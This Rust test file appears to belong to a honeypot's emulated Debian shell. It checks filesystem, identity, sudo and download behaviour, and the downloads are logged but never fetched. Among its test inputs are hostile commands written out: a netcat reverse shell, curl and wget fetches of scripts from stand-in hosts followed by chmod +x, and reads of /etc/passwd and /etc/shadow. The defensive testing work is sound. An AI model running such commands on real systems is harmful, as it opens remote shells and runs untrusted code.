//! The shell against exact Debian 12 answers.

use super::{Effect, Shell};

fn out(shell: &mut Shell, line: &str) -> String {
    String::from_utf8(shell.run(line, false).output).unwrap()
}

#[test]
fn navigates_and_lists_the_virtual_file_system() {
    let mut sh = Shell::new("bob", "srv01", "pw");
    assert_eq!(sh.prompt(), "bob@srv01:~$ ");
    assert_eq!(out(&mut sh, "pwd"), "/home/bob\n");
    assert_eq!(out(&mut sh, "cd /tmp && pwd"), "/tmp\n");
    assert_eq!(sh.prompt(), "bob@srv01:/tmp$ ");
    assert_eq!(
        out(&mut sh, "echo hi > a; echo there >> a; cat a"),
        "hi\nthere\n"
    );
    assert_eq!(out(&mut sh, "ls"), "a\n");
    assert_eq!(
        out(&mut sh, "ls -la"),
        "total 12\ndrwxrwxrwt 2 root root  4096 Nov 22 10:04 .\ndrwxr-xr-x 2 root root  4096 Nov 22 10:04 ..\n-rw-r--r-- 1 bob bob     9 Nov 22 10:04 a\n"
    );
    assert_eq!(
        out(&mut sh, "cd /nope"),
        "-bash: cd: /nope: No such file or directory\n"
    );
    assert_eq!(out(&mut sh, "cd; pwd"), "/home/bob\n");
    assert_eq!(out(&mut sh, "ls -a ~"), ".\n..\n.bashrc\n.profile\n");
    assert_eq!(
        out(&mut sh, "echo x > /etc/x"),
        "-bash: /etc/x: Permission denied\n"
    );
    assert_eq!(out(&mut sh, "cat /etc/hostname"), "srv01\n");
    assert!(
        sh.run("cat /proc/self/exe", false)
            .output
            .starts_with(b"\x7fELF\x02")
    );
    assert_eq!(
        out(&mut sh, "head -c 4 /proc/self/exe"),
        "-bash: head: command not found\n"
    );
    assert!(
        out(&mut sh, "cat /etc/os-release")
            .starts_with("PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n")
    );
    assert!(
        out(&mut sh, "cat /etc/passwd").ends_with("bob:x:1000:1000:bob,,,:/home/bob:/bin/bash\n")
    );
    assert_eq!(
        out(&mut sh, "cat /etc/shadow"),
        "cat: /etc/shadow: No such file or directory\n"
    );
}

#[test]
fn answers_identity_and_system_commands() {
    let mut sh = Shell::new("bob", "srv01", "pw");
    assert_eq!(out(&mut sh, "whoami"), "bob\n");
    assert_eq!(
        out(&mut sh, "id"),
        "uid=1000(bob) gid=1000(bob) groups=1000(bob),27(sudo)\n"
    );
    assert_eq!(
        out(&mut sh, "uname -a"),
        "Linux srv01 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux\n"
    );
    assert_eq!(out(&mut sh, "uname -m"), "x86_64\n");
    assert_eq!(
        out(&mut sh, "which ls nc wget"),
        "/usr/bin/ls\n/usr/bin/wget\n"
    );
    assert_eq!(sh.run("which nc", false).status, 1);
    assert_eq!(
        out(&mut sh, "ps"),
        "    PID TTY          TIME CMD\n   1432 pts/0    00:00:00 bash\n   1467 pts/0    00:00:00 ps\n"
    );
    let up = out(&mut sh, "uptime");
    assert!(
        up.ends_with(" up 41 days,  3:12,  1 user,  load average: 0.00, 0.01, 0.00\n"),
        "{up}"
    );
    assert_eq!(out(&mut sh, "echo -n $USER $HOME"), "bob /home/bob");
    assert_eq!(out(&mut sh, "false || echo no"), "no\n");
    assert_eq!(out(&mut sh, "false && echo no"), "");
    assert_eq!(out(&mut sh, "echo a | cat"), "a\n");
    let nc = sh.run("nc -e /bin/sh 192.0.2.1 4444", false);
    assert_eq!(
        (nc.output, nc.status),
        (b"-bash: nc: command not found\n".to_vec(), 127)
    );
}

#[test]
fn downloads_are_reported_never_fetched() {
    let mut sh = Shell::new("root", "srv01", "pw");
    let curl = sh.run("curl -sS -o /tmp/x http://203.0.113.9:8080/x.sh", false);
    assert_eq!(
        String::from_utf8(curl.output).unwrap(),
        "curl: (7) Failed to connect to 203.0.113.9 port 8080 after 0 ms: Couldn't connect to server\n"
    );
    assert_eq!(curl.status, 7);
    let quiet = sh.run(
        "curl -fsSL http://bad.example/x; curl -s http://bad.example/x",
        false,
    );
    assert_eq!(
        String::from_utf8(quiet.output).unwrap(),
        "curl: (6) Could not resolve host: bad.example\n"
    );
    assert_eq!((quiet.status, quiet.effects.len()), (6, 2));
    let ip = sh.run("wget http://198.51.100.4/a", false);
    let text = String::from_utf8(ip.output).unwrap();
    assert!(
        text.ends_with("  http://198.51.100.4/a\nConnecting to 198.51.100.4:80... failed: Network is unreachable.\n"),
        "{text}"
    );
    assert_eq!(sh.run("wget -q http://198.51.100.4/a", false).output, b"");
    assert_eq!(
        curl.effects,
        vec![Effect::Download {
            tool: "curl".to_owned(),
            url: "http://203.0.113.9:8080/x.sh".to_owned()
        }]
    );
    let wget = sh.run(
        "cd /tmp; wget http://bad.example/a.sh -O a.sh; chmod +x a.sh",
        false,
    );
    let text = String::from_utf8(wget.output).unwrap();
    assert!(
        text.contains("wget: unable to resolve host address ‘bad.example’\n"),
        "{text}"
    );
    assert_eq!(wget.effects.len(), 1);
}

#[test]
fn sudo_asks_for_the_password() {
    let mut sh = Shell::new("bob", "srv01", "pw");
    let asked = sh.run("sudo id", true);
    assert_eq!(asked.output, b"[sudo] password for bob: ".to_vec());
    assert!(sh.wants_password());
    let wrong = sh.password("guess");
    assert_eq!(
        wrong.output,
        b"Sorry, try again.\n[sudo] password for bob: ".to_vec()
    );
    assert_eq!(
        wrong.effects,
        vec![Effect::SudoPassword {
            password: "guess".to_owned()
        }]
    );
    let right = sh.password("pw");
    assert_eq!(
        right.output,
        b"uid=0(root) gid=0(root) groups=0(root)\n".to_vec()
    );
    assert!(!sh.wants_password());
    assert_eq!(out(&mut sh, "whoami"), "bob\n");
    let no_tty = sh.run("sudo id", false);
    assert_eq!(no_tty.status, 1);
    assert!(!sh.wants_password());
}
